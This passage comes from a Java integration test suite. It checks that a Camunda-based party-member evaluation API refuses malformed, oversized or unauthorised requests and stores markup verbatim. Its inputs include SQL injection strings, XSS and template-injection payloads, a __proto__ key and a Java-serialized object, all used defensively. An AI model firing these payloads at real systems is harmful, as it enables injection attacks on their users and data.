                "😀".repeat(2001),
                "b".repeat(10_000),
                "c".repeat(100_000))) {
          bodies.put(
              field.name()
                  + " = "
                  + longText.length()
                  + " chars of "
                  + shown(longText.substring(0, 2))
                  + "\u241F"
                  + field.name()
                  + "\u241Ftoo-long",
              with(target, field, longText));
        }
        for (String control : CONTROL) {
          bodies.put(
              field.name()
                  + " contains "
                  + shown(control)
                  + "\u241F"
                  + field.name()
                  + "\u241Fcontrol-characters",
              with(target, field, "Nhận xét " + control + " tiếp"));
        }
        for (String character : INVALID_CHARACTERS) {
          bodies.put(
              field.name()
                  + " contains "
                  + shown(character)
                  + "\u241F"
                  + field.name()
                  + "\u241Finvalid-characters",
              with(target, field, "Nhận xét " + character + " tiếp"));
        }
        // an injection string is valid text: refused here only for the invalid level beside it
        String other =
            target.fields().stream()
                .filter(f -> f.kind() != Kind.TEXT)
                .findFirst()
                .orElseThrow()
                .name();
        for (String injection : INJECTIONS.subList(0, 4)) {
          Map<String, Object> body = with(target, field, injection);
          body.put(other, injection);
          bodies.put(
              field.name()
                  + " and "
                  + other
                  + " = "
                  + shown(injection)
                  + "\u241F"
                  + other
                  + "\u241F"
                  + (target.field(other).kind() == Kind.DECISION
                      ? "invalid-decision"
                      : "invalid-level"),
              body);
        }
      }
    }
    return bodies;
  }

  private static Map<String, Object> with(Target target, Field field, Object value) {
    Map<String, Object> body = new LinkedHashMap<>(target.baseFor().apply(field.name()));
    body.put(field.name(), value);
    return body;
  }

  private List<Case> domainMalformed() {
    List<Case> cases = new ArrayList<>();
    cases.addAll(malformedBodies("body ", "POST", taskPath(self, "complete"), "member1"));
    cases.add(
        new Case(
            "no body",
            Api.DOMAIN,
            "POST",
            taskPath(self, "complete"),
            "member1",
            JSON_TYPE,
            null,
            Expect.field(400, "body", "malformed")));
    return cases;
  }

  private List<Case> domainUnknownFields() {
    List<Case> cases = new ArrayList<>();
    for (String name : UNKNOWN_FIELDS) {
      Map<String, Object> body = new LinkedHashMap<>(selfCriticism("GOOD"));
      body.put(name, "member2");
      cases.add(
          post(
              "self-review with " + shown(name),
              taskPath(self, "complete"),
              "member1",
              write(body),
              Expect.field(400, name, "unknown-field")));
    }
    for (String name : List.of("decidedLevel", "decision", "branchProposedLevel")) {
      cases.add(
          post(
              "self-review with another step's field " + name,
              taskPath(self, "complete"),
              "member1",
              write(selfCriticism("GOOD", name, "EXCELLENT")),
              Expect.field(400, name, "unknown-field")));
    }
    cases.add(
        post(
            "branch review with memberId",
            taskPath(branch, "complete"),
            "secretary1",
            write(branchProposes("GOOD", "memberId", "member2")),
            Expect.field(400, "memberId", "unknown-field")));
    cases.add(
        post(
            "committee decision with selfProposedLevel",
            taskPath(decision, "complete"),
            "committee",
            write(
                Map.of(
                    "decision",
                    "APPROVE",
                    "decidedLevel",
                    "GOOD",
                    "selfProposedLevel",
                    "EXCELLENT")),
            Expect.field(400, "selfProposedLevel", "unknown-field")));
    return cases;
  }

  private List<Case> domainWrongIds() {
    List<Case> cases = new ArrayList<>();
    for (String action : List.of("complete", "claim")) {
      for (String id : WRONG_TASK_IDS) {
        // paths the server normalises or refuses before any handler (dot segments, encoded slashes)
        boolean rejectedByServer = id.contains(".") || id.contains("%2");
        cases.add(
            new Case(
                action + " task " + shown(id),
                Api.DOMAIN,
                "POST",
                "/api/v1/tasks/" + id + "/" + action,
                "member1",
                JSON_TYPE,
                "complete".equals(action) ? utf8("{\"selfProposedLevel\":\"GOOD\"}") : null,
                // no oracle (issue 12): an unknown task is the same 403 as another's
                rejectedByServer
                    ? Expect.mentioning(Set.of(400, 403, 404))
                    : Expect.mentioning(Set.of(403))));
      }
    }
    return cases;
  }

  private List<Case> domainOtherPeople() {
    String valid = "{\"selfProposedLevel\":\"GOOD\"}";
    String validBranch = write(branchProposes("GOOD"));
    String validDecision = "{\"decision\":\"APPROVE\",\"decidedLevel\":\"GOOD\"}";
    List<Case> cases = new ArrayList<>();
    cases.add(
        other(
            "another member completes member1's self-review",
            "member2",
            self,
            "complete",
            valid,
            403));
    cases.add(
        other(
            "another member completes member1's self-review with an empty body",
            "member2",
            self,
            "complete",
            "{}",
            403));
    cases.add(
        other(
            "the committee completes member1's self-review",
            "committee",
            self,
            "complete",
            valid,
            403));
    cases.add(
        other(
            "the auditor completes member1's self-review",
            "auditor",
            self,
            "complete",
            valid,
            403));
    cases.add(
        other(
            "the auditor completes member1's self-review with an invalid body (403 before validation)",
            "auditor",
            self,
            "complete",
            "{}",
            403));
    cases.add(
        other(
            "another branch's committee completes a cb1 branch review",
            "secretary2",
            branch,
            "complete",
            validBranch,
            403));
    cases.add(
        other(
            "a member completes their branch's review",
            "member1",
            branch,
            "complete",
            validBranch,
            403));
    cases.add(
        other(
            "the auditor completes a branch review",
            "auditor",
            branch,
            "complete",
            validBranch,
            403));
    cases.add(
        other(
            "a branch committee completes the committee decision",
            "secretary1",
            decision,
            "complete",
            validDecision,
            403));
    cases.add(
        other(
            "the auditor completes the committee decision",
            "auditor",
            decision,
            "complete",
            validDecision,
            403));
    cases.add(
        other(
            "another branch's committee claims a cb1 branch review",
            "secretary2",
            branch,
            "claim",
            null,
            403));
    cases.add(other("a member claims a branch review", "member2", branch, "claim", null, 403));
    cases.add(other("the auditor claims a branch review", "auditor", branch, "claim", null, 403));
    cases.add(
        other(
            "a branch committee claims the committee decision",
            "secretary1",
            decision,
            "claim",
            null,
            403));
    cases.add(
        other("another member claims member1's self-review", "member2", self, "claim", null, 403));
    cases.add(
        other(
            "the administrator claims member1's self-review (no seat: 403 before the engine's 409)",
            "admin",
            self,
            "claim",
            null,
            403));
    return cases;
  }

  private Case other(
      String name, String user, Target target, String action, String body, int status) {
    return new Case(
        name,
        Api.DOMAIN,
        "POST",
        taskPath(target, action),
        user,
        body == null ? null : JSON_TYPE,
        body == null ? null : utf8(body),
        Expect.mentioning(Set.of(status)));
  }

  private List<Case> contentTypes(Api api, String path, String user, String body) {
    List<Case> cases = new ArrayList<>();
    for (String type :
        Arrays.asList(
            "text/plain",
            "application/xml",
            "application/x-www-form-urlencoded",
            "multipart/form-data; boundary=x",
            "application/octet-stream",
            "text/html",
            null)) {
      cases.add(
          new Case(
              "Content-Type " + type,
              api,
              "POST",
              path,
              user,
              type,
              utf8(body),
              api == Api.DOMAIN
                  ? Expect.mentioning(Set.of(415))
                  : Expect.mentioning(Set.of(415), "415")));
    }
    return cases;
  }

  // ------------------------------------------------------------------------------- level
  // adjustment cases

  /** POST /api/v1/evaluations/{year}/{memberId}/adjustments by the grassroots committee: the body is checked first. */
  private List<Case> adjustmentCases() {
    String path = "/api/v1/evaluations/" + YEAR + "/member1/adjustments";
    List<Case> cases = new ArrayList<>();
    Object[][] bodies = {
      {"{}", "level", "required"},
      {"{\"reason\":\"Vượt tỷ lệ.\"}", "level", "required"},
      {"{\"level\":null,\"reason\":\"Vượt tỷ lệ.\"}", "level", "required"},
      {"{\"level\":\"BEST\",\"reason\":\"Vượt tỷ lệ.\"}", "level", "invalid-level"},
      {"{\"level\":\"good\",\"reason\":\"Vượt tỷ lệ.\"}", "level", "invalid-level"},
      {"{\"level\":\"GOOD\"}", "reason", "required"},
      {"{\"level\":\"GOOD\",\"reason\":\"   \"}", "reason", "required"},
      {"{\"level\":\"GOOD\",\"reason\":\"" + "x".repeat(4001) + "\"}", "reason", "too-long"},
      {"{\"level\":\"GOOD\",\"reason\":\"a\\u0007b\"}", "reason", "control-characters"},
      {"{\"level\":\"GOOD\",\"reason\":\"a\\ud800b\"}", "reason", "invalid-characters"},
      {"{\"level\":\"GOOD\",\"reason\":\"a\\u202Eb\"}", "reason", "invalid-characters"},
      {"{\"level\":[],\"reason\":\"Vượt tỷ lệ.\"}", "level", "wrong-type"},
      {"{\"level\":\"GOOD\",\"reason\":{}}", "reason", "wrong-type"}
    };
    cases.addAll(refusedBodies("adjustment ", "POST", path, "committee", bodies));
    cases.addAll(malformedBodies("adjustment body ", "POST", path, "committee"));
    cases.add(
        post(
            "adjustment year = \"abc\"",
            "/api/v1/evaluations/abc/member1/adjustments",
            "committee",
            "{\"level\":\"GOOD\",\"reason\":\"x\"}",
            Expect.field(400, "year", "wrong-type")));
    cases.add(
        new Case(
            "adjustment of an unknown member",
            Api.DOMAIN,
            "POST",
            "/api/v1/evaluations/" + YEAR + "/nobody/adjustments",
            "committee",
            JSON_TYPE,
            utf8("{\"level\":\"GOOD\",\"reason\":\"x\"}"),
            // no oracle: nobody the committee may read, the same 403 as another's evaluation
            Expect.mentioning(Set.of(403))));
    cases.addAll(
        contentTypes(Api.DOMAIN, path, "committee", "{\"level\":\"GOOD\",\"reason\":\"x\"}"));
    return cases;
  }

  // ------------------------------------------------------------------------------------ engine
  // REST cases

  private String enginePath(Target target, String action) {
    return "/engine-rest/task/" + tasks.get(target.taskKey()) + "/" + action;
  }

  private static String variables(Map<String, Object> values) {
    Map<String, Object> variables = new LinkedHashMap<>();
    values.forEach(
        (name, value) -> {
          Map<String, Object> variable = new LinkedHashMap<>();
          variable.put("value", value);
          variables.put(name, variable);
        });
    return write(Map.of("variables", variables));
  }

  private List<Case> engineFieldCases(Target target, String action) {
    List<Case> cases = new ArrayList<>();
    // the same refused values as through the domain API, as untyped engine variables
    for (Map.Entry<String, Map<String, Object>> refused : refusedValues(target).entrySet()) {
      String[] key = refused.getKey().split("\u241F", 3);
      if ("submit-form".equals(action) && cases.size() >= 40) {
        break; // the same code path as complete: a sample is enough
      }
      cases.add(
          jsonCase(
              key[0],
              Api.ENGINE,
              "POST",
              enginePath(target, action),
              target.user(),
              variables(refused.getValue()),
              Expect.mentioning(Set.of(400), key[1] + ": " + key[2])));
    }
    // typed variables the engine cannot convert, or must not accept
    Field first = target.fields().get(0);
    Map<String, Object> base = target.baseFor().apply(first.name());
    for (String[] typed :
        new String[][] {
          {"GOOD", "Integer"},
          {"GOOD", "Long"},
          {"GOOD", "Double"},
          {"GOOD", "Date"},
          {"GOOD", "Boolean"},
          {"GOOD", "Nope"},
          {"{}", "Json"},
          {"<x/>", "Xml"}
        }) {
      Map<String, Object> variables = new LinkedHashMap<>();
      base.forEach((name, value) -> variables.put(name, Map.of("value", value)));
      variables.put(first.name(), Map.of("value", typed[0], "type", typed[1]));
      cases.add(
          jsonCase(
              first.name() + " typed " + typed[1] + " " + shown(typed[0]),
              Api.ENGINE,
              "POST",
              enginePath(target, action),
              target.user(),
              write(Map.of("variables", variables)),
              Expect.mentioning(Set.of(400), first.name(), "'" + typed[1] + "'")));
    }
    for (Object[] typed :
        new Object[][] {
          {true, "Boolean"},
          {7, "Integer"},
          {7, "Short"},
          {7, "Long"},
          {7.5, "Double"},
          {"2026-12-01T00:00:00.000+0000", "Date"},
          {"AAEC", "Bytes"}
        }) {
      Map<String, Object> variables = new LinkedHashMap<>();
      base.forEach((name, value) -> variables.put(name, Map.of("value", value)));
      variables.put(first.name(), Map.of("value", typed[0], "type", typed[1]));
      String reason = first.kind() == Kind.DECISION ? "invalid-decision" : "invalid-level";
      cases.add(
          jsonCase(
              first.name() + " as a " + typed[1],
              Api.ENGINE,
              "POST",
              enginePath(target, action),
              target.user(),
              write(Map.of("variables", variables)),
              Expect.mentioning(Set.of(400), first.name() + ": " + reason)));
    }
    Map<String, Object> serialized = new LinkedHashMap<>();
    base.forEach((name, value) -> serialized.put(name, Map.of("value", value)));
    serialized.put(
        first.name(),
        Map.of(
            "value",
            "rO0ABXQABEdPT0Q=",
            "type",
            "Object",
            "valueInfo",
            Map.of(
                "objectTypeName",
                "java.lang.String",
                "serializationDataFormat",
                "application/x-java-serialized-object")));
    cases.add(
        jsonCase(
            first.name() + " as a Java-serialized object",
            Api.ENGINE,
            "POST",
            enginePath(target, action),
            target.user(),
            write(Map.of("variables", serialized)),
            Expect.mentioning(Set.of(400), first.name())));
    return cases;
  }

  private List<Case> engineMalformed(String action) {
    List<Case> cases = new ArrayList<>();
    String path = enginePath(self, action);
    for (String body :
        concat(
            MALFORMED_JSON.subList(0, 8),
            List.of(
                "[]",
                "\"x\"",
                "{\"variables\":\"x\"}",
                "{\"variables\":[1]}",
                "{\"variables\":{\"selfProposedLevel\":\"GOOD\"}}"))) {
      cases.add(
          jsonCase(
              "body " + shown(body),
              Api.ENGINE,
              "POST",
              path,
              "member1",
              body,
              Expect.mentioning(Set.of(400))));
    }
    cases.addAll(contentTypes(Api.ENGINE, path, "member1", variables(selfCriticism("GOOD"))));
    return cases;
  }

  private List<Case> engineWrongIds(String action) {
    List<Case> cases = new ArrayList<>();
    String body = variables(selfCriticism("GOOD"));
    for (String id : List.of(UUID.randomUUID().toString(), "nope", "'%20OR%20'1'='1")) {
      cases.add(
          new Case(
              action + " unknown task " + shown(id),
              Api.ENGINE,
              "POST",
              "/engine-rest/task/" + id + "/" + action,
              "member1",
              JSON_TYPE,
              utf8(body),
              // issue 12, finding 9: an unknown task is answered as a forbidden one (403, naming
              // nothing of it), not 404 "Cannot find task <id>", which told which ids exist
              Expect.mentioning(Set.of(403), "Không có quyền, hoặc không có đối tượng này")));
    }
    cases.add(
        jsonCase(
            "another member completes member1's self-review",
            Api.ENGINE,
            "POST",
            enginePath(self, action),
            "member2",
            body,
            Expect.mentioning(Set.of(403), "member2")));
    cases.add(
        jsonCase(
            "the auditor completes member1's self-review",
            Api.ENGINE,
            "POST",
            enginePath(self, action),
            "auditor",
            body, // the engine's guard says why: the inspection committee does no task
            Expect.mentioning(Set.of(403), "inspection committee")));
    cases.add(
        jsonCase(
            "another branch's committee completes a cb1 branch review",
            Api.ENGINE,
            "POST",
            enginePath(branch, action),
            "secretary2",
            variables(branchProposes("GOOD")),
            Expect.mentioning(Set.of(403), "secretary2")));
    cases.add(
        jsonCase(
            "a member completes the committee decision",
            Api.ENGINE,
            "POST",
            enginePath(decision, action),
            "member1",
            variables(Map.of("decision", "APPROVE", "decidedLevel", "GOOD")),
            Expect.mentioning(Set.of(403), "member1")));
    return cases;
  }

  /**
   * A member's own task completed through the engine REST API with variables that are not on the form: they would
   * overwrite the process's own variables (who the member is, which committee decides). The domain API refuses
   * them ({@code unknown-field}); so must the engine REST API, which Tasklist also uses. Each case spends a task of
   * its own, so that a wrongly accepted one does not disturb the others.
   */
  private List<Case> engineNonFormVariables() {
    List<Case> cases = new ArrayList<>();
    Object[][] overwrites = {
      {"complete", "memberUserId", "member1"},
      {"complete", "memberId", "member13"},
      {"complete", "branchCommitteeGroup", "branch-committee-thanh-khe-tay-cb3"},
      {"complete", "decidedLevel", "EXCELLENT"},
      {"submit-form", "memberUserId", "member1"},
      {"submit-form", "organizationCommitteeGroup", "members"},
      {"submit-form", "year", 2000},
      {"submit-form", "regulation", "QD-132-2018"}
    };
    for (Object[] overwrite : overwrites) {
      String task = spareSelfReviews.poll();
      String member = memberOf(task);
      Map<String, Object> values = new LinkedHashMap<>();
      values.put("selfProposedLevel", "GOOD");
      values.put((String) overwrite[1], overwrite[2]);
      cases.add(
          jsonCase(
              overwrite[0]
                  + " "
                  + member
                  + "'s self-review with "
                  + overwrite[1]
                  + " = "
                  + overwrite[2],
              Api.ENGINE,
              "POST",
              "/engine-rest/task/" + task + "/" + overwrite[0],
              member,
              variables(values),
              Expect.mentioning(Set.of(400), (String) overwrite[1])));
    }
    return cases;
  }

  private String memberOf(String taskId) {
    return jdbc.sql(
            """
            select v.text_ from public.act_ru_variable v join public.act_ru_task t on t.proc_inst_id_ = v.proc_inst_id_
            where t.id_ = :task and v.name_ = 'memberId'""")
        .param("task", taskId)
        .query(String.class)
        .single();
  }

  // ------------------------------------------------------------------------------------------------ running

  /**
   * PATCH /api/v1/members/{memberId} as the grassroots committee (allowed): each body with one thing wrong, refused
   * naming the field, and nothing written (the snapshot holds member1's row and the count of recorded changes).
   */
  private List<Case> rosterCases() {
    String path = "/api/v1/members/member1";
    String future = java.time.LocalDate.now().plusDays(3).toString();
    List<Case> cases = new ArrayList<>();
    Object[][] bodies = {
      {"{\"exempted\":true}", "reason", "required"},
      {"{\"exempted\":true,\"reason\":\"\\t \"}", "reason", "required"},
      {"{\"exempted\":true,\"reason\":\"" + "x".repeat(4001) + "\"}", "reason", "too-long"},
      {"{\"exempted\":true,\"reason\":\"a\\u0000b\"}", "reason", "control-characters"},
      {"{\"exempted\":true,\"reason\":\"a\\udc00b\"}", "reason", "invalid-characters"},
      {"{\"exempted\":true,\"reason\":\"a\\u2066b\\u2069\"}", "reason", "invalid-characters"},
      {"{\"exempted\":true,\"reason\":[\"QĐ 15\"]}", "reason", "not-text"},
      {"{\"reason\":\"QĐ 15\"}", "body", "nothing-to-change"},
      {"{\"exempted\":\"true\",\"reason\":\"QĐ 15\"}", "exempted", "not-a-flag"},
      {"{\"suspended\":null,\"reason\":\"QĐ 15\"}", "suspended", "not-a-flag"},
      {"{\"leadershipPost\":1,\"reason\":\"QĐ 15\"}", "leadershipPost", "not-a-flag"},
      {"{\"membership\":\"official\",\"reason\":\"QĐ 15\"}", "membership", "invalid-membership"},
      {"{\"membership\":null,\"reason\":\"QĐ 15\"}", "membership", "required"},
      {"{\"membership\":{},\"reason\":\"QĐ 15\"}", "membership", "wrong-type"},
      // member1 sits on the branch committee in the demo data
      {
        "{\"membership\":\"PROBATIONARY\",\"reason\":\"QĐ 15\"}",
        "membership",
        "probationary-on-committee"
      },
      {
        "{\"leadership\":\"BRANCH_COMMITTEE \",\"reason\":\"QĐ 15\"}",
        "leadership",
        "invalid-leadership"
      },
      {"{\"leadership\":\"' OR '1'='1\",\"reason\":\"QĐ 15\"}", "leadership", "invalid-leadership"},
      {"{\"headOf\":\"SECRETARY\",\"reason\":\"QĐ 15\"}", "headOf", "invalid-head-of"},
      {"{\"headOf\":\"branch\",\"reason\":\"QĐ 15\"}", "headOf", "invalid-head-of"},
      {"{\"headOf\":\"\",\"reason\":\"QĐ 15\"}", "headOf", "invalid-head-of"},
      {"{\"headOf\":1,\"reason\":\"QĐ 15\"}", "headOf", "wrong-type"},
      {"{\"headOf\":{\"unit\":\"BRANCH\"},\"reason\":\"QĐ 15\"}", "headOf", "wrong-type"},
      {"{\"admittedOn\":\"" + future + "\",\"reason\":\"QĐ 15\"}", "admittedOn", "in-future"},
      {
        "{\"admittedOn\":\"2010-05-19T00:00:00+07:00\",\"reason\":\"QĐ 15\"}",
        "admittedOn",
        "invalid-format"
      },
      {"{\"admittedOn\":\"1900-01-01\",\"reason\":\"QĐ 15\"}", "admittedOn", "out-of-range"},
      {"{\"admittedOn\":true,\"reason\":\"QĐ 15\"}", "admittedOn", "wrong-type"},
      {
        "{\"civilServant\":true,\"status\":\"LEFT\",\"reason\":\"QĐ 15\"}",
        "status",
        "unknown-field"
      },
      {
        "{\"civilServant\":true,\"branchId\":\"thanh-khe-tay-cb2\",\"reason\":\"QĐ 15\"}",
        "branchId",
        "unknown-field"
      },
      {
        "{\"civilServant\":true,\"__proto__\":{},\"reason\":\"QĐ 15\"}",
        "__proto__",
        "unknown-field"
      }
    };
    cases.addAll(refusedBodies("roster ", "PATCH", path, "committee", bodies));
    cases.addAll(malformedBodies("roster body ", "PATCH", path, "committee"));
    for (String type :
        Arrays.asList("text/plain", "application/x-www-form-urlencoded", "application/xml", null)) {
      cases.add(
          new Case(
              "roster Content-Type " + type,
              Api.DOMAIN,
              "PATCH",
              path,
              "committee",
              type,
              utf8("{\"civilServant\":true,\"reason\":\"QĐ 15\"}"),
              Expect.mentioning(Set.of(415))));
    }
    // no oracle (issue 12): to the committee an unknown id answers like another organization's
    // member, 403
    cases.add(
        jsonCase(
            "roster of an unknown member",
            Api.DOMAIN,
            "PATCH",
            "/api/v1/members/nobody",
            "committee",
            "{\"civilServant\":true,\"reason\":\"QĐ 15\"}",
            Expect.mentioning(Set.of(403))));
    cases.add(
        jsonCase(
            "roster changed by an auditor",
            Api.DOMAIN,
            "PATCH",
            path,
            "auditor",
            "{\"civilServant\":true,\"reason\":\"QĐ 15\"}",
            Expect.mentioning(Set.of(403))));
    return cases;
  }

  private DynamicNode group(String name, List<Case> cases) {
    return dynamicContainer(
        name + " (" + cases.size() + ")",
        cases.stream().map(c -> dynamicTest(c.name(), () -> run(name, c))));
  }

  private void run(String group, Case c) {
    String before = snapshot();
    HttpResponse<String> response =
        http.send(c.method(), c.path(), c.user(), c.contentType(), c.body());
    int status = response.statusCode();
    String body = response.body() == null ? "" : response.body();
    String after = snapshot();

    boolean unchanged = before.equals(after);
    String problem = namesTheProblem(c, body);
    tally.answered(status, !unchanged, problem == null);

    String shownBody = body.length() > 1500 ? body.substring(0, 1500) + "…" : body;
    String label =
        "["
            + group
            + " / "
            + c.name()
            + " as "
            + c.user()
            + "] "
            + c.method()
            + " "
            + (c.path().length() > 120 ? c.path().substring(0, 120) + "…" : c.path())
            + " → "
            + status
            + " ";
    assertThat(status).as("%sa 4xx: %s", label, shownBody).isBetween(400, 499);
    assertThat(c.expect().statuses())
        .as("%sexpected status, got: %s", label, shownBody)
        .contains(status);
    assertThat(problem).as("%sthe answer names the problem: %s", label, shownBody).isNull();
    assertThat(after).as("%snothing stored by a refused request", label).isEqualTo(before);
  }

  /** Null when the answer names the problem as the case expects; otherwise what is missing. */
  private String namesTheProblem(Case c, String body) {
    JsonNode answer;
    try {
      answer = JSON.readTree(body.isEmpty() ? "{}" : body);
    } catch (JsonProcessingException e) {
      // not JSON: Tomcat's own page for a path it refuses, or the JAX-RS Jackson provider's
      // plain-text message for
      // a body it cannot parse; then the text itself must say what is wrong
      answer = JSON.createObjectNode().put("detail", body).put("message", body);
    }
    if (c.api() == Api.DOMAIN) {
      if (c.expect().field() != null) {
        boolean named =
            StreamSupport.stream(answer.path("errors").spliterator(), false)
                .anyMatch(
                    e ->
                        e.path("field").asText().equals(c.expect().field())
                            && (c.expect().reason() == null
                                || e.path("reason").asText().equals(c.expect().reason())));
        return named
            ? null
            : "errors[] names field " + c.expect().field() + " / reason " + c.expect().reason();
      }
      String text = answer.path("detail").asText(answer.path("error").asText(""));
      if (text.isBlank()) {
        return "a detail";
      }
      return c.expect().mentions().isEmpty()
              || c.expect().mentions().stream().anyMatch(text::contains)
          ? null
          : "detail mentions one of " + c.expect().mentions();
    }
    String message = answer.path("message").asText("");
    if (c.expect().mentions().isEmpty()) {
      // Camunda answers a body it cannot parse with an empty message (JsonParseExceptionHandler);
      // the type says it
      if (message.isBlank()) {
        engineBlankMessages++;
        System.out.println("engine answered with an empty message: " + c.name());
        return answer.path("type").asText("").isBlank() ? "a type or message" : null;
      }
      return null;
    }
    // a refusal naming fields names them in errors[].field, its message in words (the variables
    // refused: tenth session's outsider, LOW 8)
    List<String> fields = new ArrayList<>();
    StreamSupport.stream(answer.path("errors").spliterator(), false)
        .forEach(
            e -> {
              String field = e.path("field").asText();
              fields.add(field);
              fields.add(field + ": " + e.path("reason").asText());
              // a variable is named by its path (variables.selfProposedLevel), its message by the
              // form's label (thirteenth session: engine REST's own refusals in words)
              fields.add(field.substring(field.lastIndexOf('.') + 1));
            });
    return c.expect().mentions().stream().anyMatch(m -> message.contains(m) || fields.contains(m))
        ? null
        : "message or errors[].field mentions one of " + c.expect().mentions();
  }

  /**
   * Everything a request of this corpus could change: campaigns and their processes, the year's tasks, process
   * variables, evaluation records, timeline, outbox, and the engine's history details and operation log.
   */
  private String snapshot() {
    Map<String, Object> year = Map.of("y", YEAR);
    Map<String, Object> businessKeys = Map.of("bk", YEAR + ":%");
    return Stream.of(
            rows("select count(*) from evaluation.campaign", Map.of()),
            rows(
                "select count(*) from public.act_hi_procinst where proc_def_key_ = 'evaluation-campaign'",
                Map.of()),
            rows("select * from evaluation.campaign where year = :y", year),
            rows(
                "select * from evaluation.member_evaluation where year = :y order by member_id",
                year),
            rows(
                "select count(*), coalesce(max(id), 0) from evaluation.timeline_entry where year = :y",
                year),
            rows(
                "select count(*) from evaluation.outbox where position(:needle in convert_from(payload, "
                    + "'UTF8')) > 0",
                Map.of("needle", "\"year\":" + YEAR)),
            rows(
                """
                select t.id_, t.rev_, t.assignee_, t.task_def_key_ from public.act_ru_task t
                join public.act_ru_execution e on e.id_ = t.proc_inst_id_ where e.business_key_ like :bk order by t.id_""",
                businessKeys),
            rows(
                """
                select v.id_, v.rev_, v.name_, v.type_, v.text_, v.long_, v.double_, v.task_id_
                from public.act_ru_variable v join public.act_ru_execution e on e.id_ = v.proc_inst_id_
                where e.business_key_ like :bk order by v.id_""",
                businessKeys),
            rows(
                """
                select count(*) from public.act_hi_detail d join public.act_hi_procinst p on p.id_ = d.proc_inst_id_
                where p.business_key_ like :bk""",
                businessKeys),
            rows(
                """
                select count(*) from public.act_hi_op_log o join public.act_hi_procinst p on p.id_ = o.proc_inst_id_
                where p.business_key_ like :bk""",
                businessKeys),
            // the member roster's cases: member1's facts and the record of changes
            rows("select * from evaluation.party_member where id = 'member1'", Map.of()),
            rows("select count(*) from evaluation.member_roster_change", Map.of()))
        .collect(Collectors.joining("|"));
  }

  /** The rows a query answers, as text: one part of the {@link #snapshot()}. */
  private String rows(String sql, Map<String, ?> params) {
    return jdbc.sql(sql).params(params).query().listOfRows().toString();
  }

  // ------------------------------------------------------------------------------ accepted texts
  // with markup

  /**
   * Markup and SQL in free text are valid text: stored as given, returned verbatim as JSON strings by the read API
   * (with {@code Content-Type: application/json} and {@code X-Content-Type-Options: nosniff}), and handed on
   * verbatim in the events. Whoever renders them as HTML (issue 4: e-mails, in-app notifications) must escape them.
   */
  @Test
  @Order(2)
  void markupIsKeptVerbatim() {
    Map<String, String> selfReview = new LinkedHashMap<>();
    selfReview.put("strengths", "<script>alert(1)</script>");
    selfReview.put("limitations", "'; DROP TABLE evaluation.timeline_entry; --");
    selfReview.put(
        "remedialMeasures",
        "\"><img src=x onerror=alert(1)> {{7*7}} ${7*7} Đảng viên 🇻🇳\r\n\tTab & "
            + "<b>bold</b>");
    Map<String, Object> values = new LinkedHashMap<>(selfReview);
    values.put("shortcomingsFixed", "Đã khắc phục việc chậm nộp báo cáo được chỉ ra năm trước.");
    values.put("selfProposedLevel", "GOOD");
    completeOk("member6", taskOf("member6", "self-review", "member6", YEAR), values);

    HttpResponse<String> history =
        http.get("/api/v1/evaluations/" + YEAR + "/member6/history", "member6");
    assertThat(history.statusCode()).isEqualTo(200);
    assertThat(history.headers().firstValue("Content-Type").orElse(""))
        .startsWith("application/json");
    assertThat(history.headers().firstValue("X-Content-Type-Options")).contains("nosniff");
    JsonNode completed = firstOfKind(json(history.body()), "TASK_COMPLETED");
    for (Map.Entry<String, String> text : selfReview.entrySet()) {
      assertThat(completed.at("/details/" + text.getKey()).isTextual()).isTrue();
      assertThat(completed.at("/details/" + text.getKey()).asText()).isEqualTo(text.getValue());
      markupVerbatim++;
    }

    String branchComment =
        "<script>alert('chi bộ')</script><a href=\"javascript:alert(1)\">xem</a>";
    reviewedByTheBranch("member7", branchProposes("GOOD", "branchComment", branchComment));
    assertThat(evaluation("member7", YEAR, "member7").at("/branchReview/comment").asText())
        .isEqualTo(branchComment);
    String event =
        jdbc.sql(
                """
            select convert_from(payload, 'UTF8') from evaluation.outbox
            where message_key = 'member7' and event_type = 'vn.party.evaluation.branch-review.completed'
              and position(:needle in convert_from(payload, 'UTF8')) > 0""")
            .param("needle", "\"year\":" + YEAR)
            .query(String.class)
            .single();
    assertThat(json(event).at("/data/branchComment").asText()).isEqualTo(branchComment);
    markupVerbatim++;

    String returnReason = "<b>Trả lại</b><iframe src=\"javascript:alert(1)\"></iframe> ' OR 1=1 --";
    reviewedByTheBranch("member8", branchProposes("GOOD"));
    completeOk(
        "committee",
        taskOf("committee", "committee-decision", "member8", YEAR),
        Map.of("decision", "RETURN", "decisionComment", returnReason));
    assertThat(evaluation("committee", YEAR, "member8").at("/decision/comment").asText())
        .isEqualTo(returnReason);
    JsonNode returned = firstOfKind(history("member8", "auditor"), "CASE_RETURNED");
    assertThat(returned.at("/details/reason").asText()).isEqualTo(returnReason);
    markupVerbatim++;

    // the longest text accepted, in letters that take three bytes each in UTF-8
    String longest = "ệ".repeat(4000);
    completeOk(
        "member9",
        taskOf("member9", "self-review", "member9", YEAR),
        selfCriticism("GOOD", "strengths", longest));
    JsonNode member9 = firstOfKind(history("member9", "member9"), "TASK_COMPLETED");
    assertThat(member9.at("/details/strengths").asText()).isEqualTo(longest);

    // and the tables the SQL strings name are all still there
    assertThat(
            jdbc.sql("select count(*) from evaluation.timeline_entry where year = :y")
                .param("y", YEAR)
                .query(Long.class)
                .single())
        .isPositive();
    assertThat(jdbc.sql("select count(*) from evaluation.campaign").query(Long.class).single())
        .isPositive();
  }

  /** The member's self-review, the residence area's comment and the branch's review of the corpus year. */
  private void reviewedByTheBranch(String member, Map<String, Object> branchReview) {
    completeOk(member, taskOf(member, "self-review", member, YEAR), selfCriticism("GOOD"));
    sendResidenceFeedback(member, YEAR, "Tốt");
    completeOk("secretary2", taskOf("secretary2", "branch-review", member, YEAR), branchReview);
  }

  /** The member's timeline of the corpus year, as the user reads it. */
  private JsonNode history(String member, String user) {
    return json(http.get("/api/v1/evaluations/" + YEAR + "/" + member + "/history", user).body());
  }

  private static JsonNode firstOfKind(JsonNode timeline, String kind) {
    return StreamSupport.stream(timeline.spliterator(), false)
        .filter(entry -> entry.path("kind").asText().equals(kind))
        .findFirst()
        .orElseThrow();
  }

  @AfterAll
  void figures() {
    Map<String, Object> figures = tally.figures();
    figures.put("badInputs.engineBlankMessages", engineBlankMessages);
    figures.put("markup.acceptedVerbatim", markupVerbatim);
    Figures.write(getClass(), figures);
  }

  // ----------------------------------------------------------------------------------------------
  // helpers

  private static String write(Object value) {
    try {
      return JSON.writeValueAsString(value);
    } catch (JsonProcessingException e) {
      throw new IllegalArgumentException(e);
    }
  }

  private static byte[] utf8(String text) {
    return text == null
        ? null
